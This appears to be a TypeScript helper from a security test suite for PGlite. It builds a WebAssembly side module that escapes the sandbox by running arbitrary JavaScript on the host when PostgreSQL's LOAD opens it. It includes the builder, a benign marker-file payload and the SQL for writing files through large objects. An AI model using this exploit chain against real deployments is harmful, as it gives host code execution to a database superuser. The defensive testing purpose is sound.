/**
 * A hand-assembled Emscripten dynamic-linking side module whose only job is to run JavaScript on the host
 * when PGlite's dynamic loader (`loadWebAssemblyModule` in @electric-sql/pglite/dist/pglite.js) opens it,
 * as PostgreSQL's `LOAD '<path>'` does via dlopen. It is the attacker's payload for the sandbox escape
 * tests: a superuser writes these bytes into PGlite's file system (lo_from_bytea + lo_export) and LOADs them.
 *
 * How the loader is abused, step by step (all inside dlopen, before PostgreSQL looks for a magic block):
 * 1. `getDylinkMetadata` requires the `dylink.0` custom section to be the very first section and reads
 *    WASM_DYLINK_MEM_INFO from it; the loader then reserves `memorySize` bytes and calls that `__memory_base`.
 * 2. The module imports `env.memory` and `env.__memory_base` (both served by the loader's import proxy), and
 *    its active data segment copies "()<::>{ <js> }" to `__memory_base`.
 * 3. `relocateExports` adds `__memory_base` to every exported immutable global, so the export
 *    `__em_js__quorum_probe` (value 0, the string's offset) becomes the string's absolute address.
 * 4. For every `__em_js__<name>` export, `addEmJs` evals `(${args}) => ${body};` and stores the resulting
 *    function as the module's export `<name>`; eval only *defines* it, so:
 * 5. The module also imports `env.quorum_probe`, which the loader resolves lazily to that eval'd export, and
 *    exports `__wasm_call_ctors`, which the loader runs right away (the runtime is initialised) — it calls
 *    the import, i.e. the attacker's JavaScript. This is exactly what a C file with an EM_JS function called
 *    from `__attribute__((constructor))` compiles to with `emcc -sSIDE_MODULE`.
 *
 * Without `eval` (node --disallow-code-generation-from-strings) step 4 throws an EvalError, dlopen fails and
 * PostgreSQL reports "could not load library", so nothing of the payload runs.
 */
import { join } from "node:path";

/** The EM_JS function's name; the loader looks up the export `__em_js__` + this. */
export const EM_JS_NAME = "quorum_probe";

/** Unsigned LEB128, the WebAssembly binary encoding of every count, size and index. */
function uleb(value: number): number[] {
  const out: number[] = [];
  let rest = value >>> 0;
  do {
    const byte = rest & 0x7f;
    rest >>>= 7;
    out.push(rest === 0 ? byte : byte | 0x80);
  } while (rest !== 0);
  return out;
}

/** A name: its UTF-8 length, then its bytes. */
function name(text: string): number[] {
  const bytes = [...new TextEncoder().encode(text)];
  return [...uleb(bytes.length), ...bytes];
}

/** A vector: its element count, then the elements. */
function vec(items: number[][]): number[] {
  return [...uleb(items.length), ...items.flat()];
}

/** A section: its id, its byte size, then its contents. */
function section(id: number, contents: number[]): number[] {
  return [id, ...uleb(contents.length), ...contents];
}

const I32 = 0x7f;
const FUNC_TYPE = 0x60;
const KIND_FUNC = 0x00;
const KIND_MEMORY = 0x02;
const KIND_GLOBAL = 0x03;
const OP_CALL = 0x10;
const OP_GLOBAL_GET = 0x23;
const OP_I32_CONST = 0x41;
const OP_END = 0x0b;

/**
 * The side module's bytes: loading it with PGlite's dynamic loader (and code generation from strings allowed)
 * runs `jsBody` as the body of a JavaScript arrow function on the host, once, at load time.
 */
export function sideModuleWithJs(jsBody: string): Uint8Array {
  // The EM_JS string: "(<C signature>)<::><body>", NUL-terminated; "()" gives a zero-argument arrow function.
  const emJs = [...new TextEncoder().encode(`()<::>{ ${jsBody} }`), 0];
  const bytes = [
    ...[0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00], // "\0asm", version 1
    // dylink.0 (must come first): MEM_INFO = memory size, log2 memory alignment, table size, log2 table alignment.
    ...section(0, [...name("dylink.0"), ...section(1, [...uleb(emJs.length), 0, 0, 0])]),
    // type: type 0 = () -> (), shared by the constructor and the imported EM_JS function.
    ...section(1, vec([[FUNC_TYPE, 0, 0]])),
    // import: the main module's memory, __memory_base (immutable i32, global 0), the EM_JS function (func 0).
    ...section(
      2,
      vec([
        [...name("env"), ...name("memory"), KIND_MEMORY, 0x00, 0],
        [...name("env"), ...name("__memory_base"), KIND_GLOBAL, I32, 0x00],
        [...name("env"), ...name(EM_JS_NAME), KIND_FUNC, 0],
      ]),
    ),
    // function: one defined function (func 1, __wasm_call_ctors) of type 0.
    ...section(3, vec([[0]])),
    // global: global 1 = the EM_JS string's offset within this module's memory (immutable, so it is relocated).
    ...section(6, vec([[I32, 0x00, OP_I32_CONST, 0, OP_END]])),
    // export: the EM_JS string pointer and the constructor the loader runs after instantiation.
    ...section(
      7,
      vec([
        [...name(`__em_js__${EM_JS_NAME}`), KIND_GLOBAL, 1],
        [...name("__wasm_call_ctors"), KIND_FUNC, 1],
      ]),
    ),
    // code: __wasm_call_ctors() { quorum_probe(); } (size-prefixed body, no locals).
    ...section(10, vec([[...uleb(4), 0, OP_CALL, 0, OP_END]])),
    // data: one active segment in memory 0 at __memory_base holding the EM_JS string.
    ...section(11, vec([[0x00, OP_GLOBAL_GET, 0, OP_END, ...uleb(emJs.length), ...emJs]])),
  ];
  return Uint8Array.from(bytes);
}

/**
 * The attacker's payload for a sandbox abuse test: a side module that, if its JavaScript ever runs, creates
 * the file `marker` (inside `dir`, which the test makes with mkdtemp and removes afterwards). Reaches `fs`
 * from inside eval'd code with `process.getBuiltinModule` (Node ≥ 20.16), so it needs no `require` in scope.
 */
export function escapePayload(dir: string): { bytes: Uint8Array; marker: string } {
  const marker = join(dir, "ran");
  const jsBody = `globalThis.process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(marker)}, "1");`;
  return { bytes: sideModuleWithJs(jsBody), marker };
}

/** The bytes as a PostgreSQL bytea literal, `'\x…'::bytea` (standard_conforming_strings on, the default). */
export function byteaHexLiteral(bytes: Uint8Array): string {
  return `'\\x${Buffer.from(bytes).toString("hex")}'::bytea`;
}

/**
 * The attacker's route into PGlite's file system, as a superuser: store `bytes` as large object `oid`, export it
 * to `path`, drop it. Separate statements: `lo_export(lo_from_bytea(…))` in one statement fails with "large
 * object … does not exist", because lo_export reads through the statement's snapshot, which predates the object.
 */
export function writeFileSql(bytes: Uint8Array, path: string, oid = 4_242_424): string[] {
  return [
    `SELECT lo_from_bytea(${oid}, ${byteaHexLiteral(bytes)})`,
    `SELECT lo_export(${oid}, ${sqlString(path)})`,
    `SELECT lo_unlink(${oid})`,
  ];
}

/** The SQL that makes PostgreSQL dlopen `path`; LOAD takes a string literal, never a parameter. */
export function loadSql(path: string): string {
  return `LOAD ${sqlString(path)}`;
}

function sqlString(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
